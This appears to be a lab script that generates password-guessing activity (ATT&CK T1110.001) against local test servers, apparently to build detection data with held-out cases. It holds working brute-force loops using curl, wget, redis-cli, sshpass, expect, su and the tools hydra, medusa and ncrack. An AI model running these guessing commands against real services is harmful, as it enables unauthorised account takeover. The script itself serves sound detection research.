# One password after the other against small real servers that refuse them.
behaviour password-guessing T1110.001
http() { local j=$1; eval "beside_$j() { exec python3 /lab/src/auth.py http 8080; }"; }
line() { local j=$1; eval "beside_$j() { exec python3 /lab/src/auth.py line 2121; }"; }
sshd() { local j=$1; eval "beside_$j() { local o='-o UsePAM=no -o MaxStartups=200'; /usr/sbin/sshd -t -o PerSourcePenalties=no 2>/dev/null && o+=' -o PerSourcePenalties=no'; exec /usr/sbin/sshd -D -p 2222 \$o; }"; }
words() { local j=$1; eval "prepare_$j() { shuf -n 3000 /usr/share/dict/words > wl; printf 'dev\nroot\nadmin\nalice\n' > ul; }"; }
job guess_curl shell;   http guess_curl; words guess_curl; guess_curl() { while read -r w; do curl -s -o o -u "admin:$w" http://127.0.0.1:8080/; done < wl; }
job guess_wget shell held-out; http guess_wget; words guess_wget; guess_wget() { while read -r w; do wget -q -O o --post-data "user=admin&pass=$w" http://127.0.0.1:8080/login; done < wl; }
job guess_python_http python; http guess_python_http; guess_python_http() { exec "$(as python3)" /lab/src/bad.py guess basic 8080 "$(pick 0 .02 .1)"; }
job guess_python_form python; http guess_python_form; guess_python_form() { exec "$(as python3)" /lab/src/bad.py guess form 8080 "$(pick 0 .02 .1)"; }
job guess_python_ftp python; line guess_python_ftp; guess_python_ftp() { exec "$(as python3)" /lab/src/bad.py guess ftp 2121 "$(pick 0 .02 .1)"; }
job guess_python_ssh python; sshd guess_python_ssh; guess_python_ssh() { exec "$(as python3)" /lab/src/bad.py guess ssh 2222 "$(pick 0 .1)"; }
job guess_python_redis python held-out; beside_guess_python_redis() { exec redis-server --port 6380 --requirepass longsecret --save ''; }; guess_python_redis() { exec "$(as python3)" /lab/src/bad.py guess redis 6380 "$(pick 0 .02 .1)"; }
job guess_redis_cli shell; beside_guess_redis_cli() { exec redis-server --port 6380 --requirepass longsecret --save ''; }; words guess_redis_cli; guess_redis_cli() { while read -r w; do redis-cli -p 6380 -a "$w" ping; done < wl 2>/dev/null; }
job guess_perl perl;    http guess_perl; guess_perl() { exec "$(as perl)" /lab/src/bad.pl guess lwp 8080 "$(pick 0 .05)"; }
job guess_perl_line perl; line guess_perl_line; guess_perl_line() { exec "$(as perl)" /lab/src/bad.pl guess line 2121 "$(pick 0 .05 .2)"; }
job guess_ruby ruby held-out; http guess_ruby; guess_ruby() { exec "$(as ruby)" /lab/src/bad.rb guess 8080 "$(pick 0 .05)"; }
job guess_node node;    http guess_node; guess_node() { exec "$(as node)" /lab/src/bad.js guess 8080 "$(pick 0 20 100)"; }
job guess_php php;      http guess_php; guess_php() { exec "$(as php)" /lab/src/bad.php guess 8080 "$(pick 0 20000 90000)"; }
job guess_go go;        http guess_go; guess_go() { exec "$(bin bad-go)" guess 8080 "$(pick 1 8)"; }
job guess_c c;          http guess_c; guess_c() { exec "$(bin misc)" guess 8080 "$(pick 0 3000 30000)"; }
job guess_su shell;     words guess_su; guess_su() { exec "$(as python3)" -c 'import pty,os,time,sys
for w in open("wl"):
    p,f=pty.fork()
    if p==0: os.execvp("su",["su","nobody2" if len(w)%7==0 else "alice","-c","id"])
    try:
        os.read(f,99); os.write(f,w.encode()); 
        while os.read(f,99): pass
    except OSError: pass
    os.close(f); os.waitpid(p,0)'; }
job guess_sshpass shell held-out; sshd guess_sshpass; words guess_sshpass; guess_sshpass() { while read -r w; do sshpass -p "$w" ssh -p 2222 -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 dev@127.0.0.1 id; done < wl 2>/dev/null; }
job guess_expect tcl;   sshd guess_expect; words guess_expect; guess_expect() { while read -r w; do expect -c "spawn ssh -p 2222 -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 dev@127.0.0.1 id; expect assword:; send \"$w\r\"; expect eof"; done < wl; }
job guess_hydra tool;   sshd guess_hydra; words guess_hydra; guess_hydra() { local n; n=$(as hydra); while :; do "$n" -I -L ul -P wl -t "$(pick 1 4 8)" -s 2222 ssh://127.0.0.1; sleep 1; done; }
job guess_hydra_http tool; http guess_hydra_http; words guess_hydra_http; guess_hydra_http() { local n; n=$(as hydra); while :; do "$n" -I -l admin -P wl -t "$(pick 1 4 16)" -s 8080 http-get://127.0.0.1/; sleep 1; done; }
job guess_hydra_ftp tool; line guess_hydra_ftp; words guess_hydra_ftp; guess_hydra_ftp() { local n; n=$(as hydra); while :; do "$n" -I -l admin -P wl -t "$(pick 1 4)" -s 2121 ftp://127.0.0.1; sleep 1; done; }
job guess_medusa tool held-out; sshd guess_medusa; words guess_medusa; guess_medusa() { local n; n=$(as medusa); while :; do "$n" -h 127.0.0.1 -n 2222 -U ul -P wl -M ssh -t "$(pick 1 3)"; sleep 1; done; }
job guess_ncrack tool held-out; sshd guess_ncrack; words guess_ncrack; guess_ncrack() { local n; n=$(as ncrack); while :; do "$n" -U ul -P wl ssh://127.0.0.1:2222; sleep 1; done; }
